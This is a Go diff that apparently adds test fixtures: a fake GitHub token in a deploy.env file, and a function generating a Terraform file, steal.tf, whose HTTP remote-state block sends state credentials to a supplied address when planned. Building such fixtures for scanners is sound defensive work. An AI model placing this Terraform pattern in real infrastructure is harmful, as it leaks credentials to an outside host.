@@ -99,3 +99,9 @@ func statement(at time.Time, status, packages string) string {
 func Secret() (name, text string) {
 	return path.Join("apps", App, "deploy.env"), "GITHUB_TOKEN=ghp_" + strings.Repeat("aB3dE5fG7h", 4)[:36] + "\n"
 }
+
+// Exfiltration is a Terraform file that has the credentials of the state sent to an
+// address, as soon as it is planned.
+func Exfiltration(address string) (name, text string) {
+	return path.Join("infra", Code, "steal.tf"), "data \"terraform_remote_state\" \"stolen\" {\n  backend = \"http\"\n  config  = { address = \"" + address + "/elsewhere\" }\n}\n"
+}
